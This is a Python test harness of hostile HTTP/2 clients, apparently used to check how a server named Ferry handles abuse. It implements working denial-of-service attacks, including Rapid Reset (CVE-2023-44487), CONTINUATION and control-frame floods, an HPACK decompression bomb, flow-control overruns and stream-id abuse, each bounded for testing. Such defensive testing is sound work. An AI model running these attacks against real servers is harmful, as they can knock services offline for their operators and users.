"""Hostile HTTP/2 clients for tests/integration/http2_hostile_test.ts.

Usage: python3 attack.py NAME PORT. Prints one JSON line: what the server did to the connection (GOAWAY code and
last stream id, RST_STREAMs, response statuses, whether it closed) plus attack-specific facts. Every attack is
bounded in frames sent and in time.
"""

import socket
import sys
import time

from h2wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, SETTINGS_INITIAL_WINDOW_SIZE, Wire, emit, frame, ping,
    priority, request_headers, rst_stream, settings, window_update,
)


def handshake(w):
    """Waits for the server's SETTINGS (acked by Wire) and its first WINDOW_UPDATE, if any."""
    w.pump(2, until=lambda: w.got_settings)
    w.pump(0.2)


def flood(w, unit, count, batch):
    """Sends `unit` `count` times in writes of `batch`, stopping once the server closes or sends GOAWAY."""
    sent = 0
    while sent < count and not w.closed() and w.goaway is None:
        n = min(batch, count - sent)
        if not w.send(unit * n):
            break
        sent += n
        w.drain_nowait()
    return sent


def plain_get(path, authority=b"ferry.test"):
    """GET with no dynamic-table references and no indexing: safe whatever the table holds."""
    p = path.encode()
    return bytes([0x82, 0x86, 0x04, len(p)]) + p + bytes([0x01, len(authority)]) + authority


def rapid_reset(port):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, stream after stream."""
    w = Wire(port)
    handshake(w)
    sid, opened = 1, 0
    while opened < 5000 and not w.closed() and w.goaway is None:
        burst = b""
        for _ in range(100):
            burst += w.headers(sid, request_headers("/rapid")) + rst_stream(sid)
            sid += 2
        if not w.send(burst):
            break
        opened += 100
        w.drain_nowait()
    w.wait_closed(5)
    return w.result(streams=opened)


def continuation_flood(port, empty=False):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block (each one a complete
    1 KiB literal field, or empty)."""
    w = Wire(port)
    handshake(w)
    block = w.encoder.encode(request_headers("/cont"))
    if not w.send(frame(HEADERS, END_STREAM, 1, block)):
        return w.result(frames_sent=0)
    if empty:
        unit = frame(CONTINUATION, 0, 1, b"")
        count = 100_000
    else:
        value = b"v" * 1000
        # Literal without indexing, new name (RFC 7541 §6.2.2): 0x00, name, value (1000 = 127 + 873 -> 0x7f e9 06).
        field = b"\x00\x07x-flood\x7f" + bytes([0xE9, 0x06]) + value
        unit = frame(CONTINUATION, 0, 1, field)
        count = 10_000
    sent = flood(w, unit, count, 100)
    w.wait_closed(5)
    return w.result(frames_sent=sent)


def control_flood(port, unit, count):
    """Frames that each oblige the server to answer (PING, SETTINGS), sent while never reading the socket: the
    answers pile up on the server's side. A small receive buffer keeps them out of our kernel."""
    w = Wire(port, rcvbuf=4096)
    handshake(w)
    w.sock.settimeout(10)
    sent, blocked = 0, False
    try:
        while sent < count:
            w.sock.sendall(unit * 1000)
            sent += 1000
    except socket.timeout:
        blocked = True  # the server stopped reading us without closing
    except (BrokenPipeError, ConnectionResetError):
        w.send_failed = True
    # Now read: everything the server queued, then (we expect) GOAWAY and the close.
    w.wait_closed(10)
    return w.result(frames_sent=sent, blocked=blocked)


def empty_data_flood(port):
    w = Wire(port)
    handshake(w)
    w.send(w.headers(1, request_headers("/empty", "POST"), end_stream=False))
    sent = flood(w, frame(DATA, 0, 1, b""), 10_000, 500)
    w.wait_closed(5)
    return w.result(frames_sent=sent)


def priority_flood(port):
    """PRIORITY frames for a spread of idle streams (no stream is ever opened)."""
    w = Wire(port)
    handshake(w)
    unit = b"".join(priority(sid) for sid in range(3, 403, 2))
    sent = flood(w, unit, 100, 5) * 200
    w.wait_closed(5)
    return w.result(frames_sent=sent)


def window_update_flood(port):
    w = Wire(port)
    handshake(w)
    sent = flood(w, window_update(0, 1), 20_000, 500)
    w.wait_closed(5)
    return w.result(frames_sent=sent)


def hpack_bomb(port):
    """One ~4 KB dynamic-table entry referenced 4000 times in one block (~8 KB on the wire, ~16 MB decoded), then an
    ordinary GET on the same connection."""
    w = Wire(port)
    handshake(w)
    value = b"b" * 4000
    # Literal with incremental indexing, new name (§6.2.1): 0x40, name, value (4000 = 127 + 3873 -> 0x7f a1 1e).
    entry = b"\x40\x06x-bomb\x7f" + bytes([0xA1, 0x1E]) + value
    block = plain_get("/bomb") + entry + b"\xbe" * 4000  # 0xbe: indexed field 62, the newest dynamic entry
    w.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    w.pump(3, until=lambda: 1 in w.rst or "1" in w.status or 1 in w.status or w.closed())
    w.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, plain_get("/after-bomb")))
    w.pump(3, until=lambda: 3 in w.ended or 3 in w.rst or w.closed())
    return w.result(block_bytes=len(block))


def oversized_headers(port, many=False):
    """A header list over max_request_headers_kb (40 fields of 1 KiB), or over max_headers_count (150 fields),
    split over HEADERS and CONTINUATION; then an ordinary GET on the same connection."""
    w = Wire(port)
    handshake(w)
    if many:
        extra = [(f"x-h{i}", "v") for i in range(150)]
    else:
        extra = [(f"x-big{i}", "x" * 1024) for i in range(40)]
    block = w.encoder.encode(request_headers("/big-headers", extra=extra))
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = b""
    for i, c in enumerate(chunks):
        last = END_HEADERS if i == len(chunks) - 1 else 0
        out += frame(HEADERS, last | END_STREAM, 1, c) if i == 0 else frame(CONTINUATION, last, 1, c)
    w.send(out)
    w.pump(3, until=lambda: 1 in w.rst or 1 in w.status or w.closed())
    w.send(w.headers(3, request_headers("/after-big-headers")))
    w.pump(3, until=lambda: 3 in w.ended or 3 in w.rst or w.closed())
    return w.result(block_bytes=len(block))


def zero_window(port):
    """SETTINGS_INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE: the server may send the response head but no
    DATA. Waits for the stream to be reset, then checks the connection still answers a PING."""
    w = Wire(port, local_settings=[(SETTINGS_INITIAL_WINDOW_SIZE, 0)])
    handshake(w)
    t0 = time.monotonic()
    w.send(w.headers(1, request_headers("/big")))
    w.pump(8, until=lambda: 1 in w.rst or 1 in w.ended or w.closed())
    reset_after = time.monotonic() - t0
    acks = w.ping_acks
    w.send(ping(b"stillup!"))
    w.pump(2, until=lambda: w.ping_acks > acks or w.closed())
    return w.result(body_bytes=len(w.body.get(1, b"")), reset_after_s=round(reset_after, 2),
                    ping_after=w.ping_acks > acks)


def stream_id(port, case):
    """Stream identifier abuse: `regression` (5 then 3), `reuse` (1 again after it completed), `even` (2)."""
    w = Wire(port)
    handshake(w)
    if case == "even":
        w.send(w.headers(2, request_headers("/even")))
    else:
        first = 5 if case == "regression" else 1
        w.send(w.headers(first, request_headers("/first")))
        w.pump(3, until=lambda: first in w.ended or w.closed())
        w.send(w.headers(3 if case == "regression" else 1, request_headers("/again")))
    w.wait_closed(5)
    return w.result()


def data_beyond_window(port):
    """Fills the server's receive windows exactly (tracking every WINDOW_UPDATE) on 2 streams whose upstream never
    reads, until the server stops opening them (bounded buffering), then sends 16 KiB more than the fullest stream's
    window allows. Each stalled stream may legitimately hold ~5 MiB (the upstream socket's kernel buffers plus
    Ferry's per-connection buffer limit), so the 24 MiB cap leaves a wide margin. The connection window is not the
    target: a server may credit it as DATA arrives (Ferry does), so only a stream window can be overrun for sure."""
    w = Wire(port)
    handshake(w)
    conn_window = 65535
    stream_init = w.server_settings.get(SETTINGS_INITIAL_WINDOW_SIZE, 65535)
    seen = {}
    sids = [1, 3]
    windows = {sid: stream_init for sid in sids}

    def credit():
        nonlocal conn_window
        for sid, total in w.window_updates.items():
            delta = total - seen.get(sid, 0)
            seen[sid] = total
            if sid == 0:
                conn_window += delta
            elif sid in windows:
                windows[sid] += delta

    for sid in sids:
        w.send(w.headers(sid, request_headers("/stall", "POST"), end_stream=False))
    sent, cap, chunk = 0, 24 << 20, b"d" * 16384
    while sent < cap and not w.closed() and w.goaway is None:
        w.drain_nowait()
        credit()
        progressed = False
        for sid in sids:
            n = min(16384, conn_window, windows[sid])
            if sid in w.rst or n <= 0:
                continue
            if not w.send(frame(DATA, 0, sid, chunk[:n])):
                break
            conn_window -= n
            windows[sid] -= n
            sent += n
            progressed = True
        if not progressed:
            before = dict(w.window_updates)
            w.pump(0.5, until=lambda: w.window_updates != before or w.closed())
            credit()
            if w.window_updates == before:
                break  # quiescent: the server opens no more window
    live = [s for s in sids if s not in w.rst]
    target, alive = None, False
    if not w.closed() and w.goaway is None and sent < cap and live:
        target = min(live, key=lambda s: windows[s])
        over = windows[target] + 16384
        if over > 16384:  # the window still has room: fill it first, then overrun it
            w.send(frame(DATA, 0, target, chunk[:windows[target]]))
        w.send(frame(DATA, 0, target, chunk))
        w.pump(3, until=lambda: w.goaway is not None or target in w.rst or w.closed())
        acks = w.ping_acks
        w.send(ping(b"stillup!"))
        w.pump(2, until=lambda: w.ping_acks > acks or w.closed())
        alive = w.ping_acks > acks
    return w.result(sent=sent, unbounded=sent >= cap, target=target, conn_window=conn_window,
                    stream_windows={str(k): v for k, v in windows.items()}, ping_after=alive)


def bad_hpack(port):
    """A header block that indexes past the end of the dynamic table: COMPRESSION_ERROR."""
    w = Wire(port)
    handshake(w)
    w.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, bytes([0x82, 0x86, 0x84, 0xFF, 0x64])))  # index 163
    w.wait_closed(5)
    return w.result()


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "continuation_empty_flood": lambda p: continuation_flood(p, empty=True),
    "ping_flood": lambda p: control_flood(p, ping(), 1_000_000),
    "settings_flood": lambda p: control_flood(p, settings(), 1_000_000),
    "empty_data_flood": empty_data_flood,
    "priority_flood": priority_flood,
    "window_update_flood": window_update_flood,
    "hpack_bomb": hpack_bomb,
    "oversized_headers": oversized_headers,
    "too_many_headers": lambda p: oversized_headers(p, many=True),
    "zero_window": zero_window,
    "stream_id_regression": lambda p: stream_id(p, "regression"),
    "stream_id_reuse": lambda p: stream_id(p, "reuse"),
    "stream_id_even": lambda p: stream_id(p, "even"),
    "data_beyond_window": data_beyond_window,
    "bad_hpack": bad_hpack,
}

if __name__ == "__main__":
    name, port = sys.argv[1], int(sys.argv[2])
    t0 = time.monotonic()
    res = ATTACKS[name](port)
    res["attack"] = name
    res["elapsed_s"] = round(time.monotonic() - t0, 2)
    emit(res)
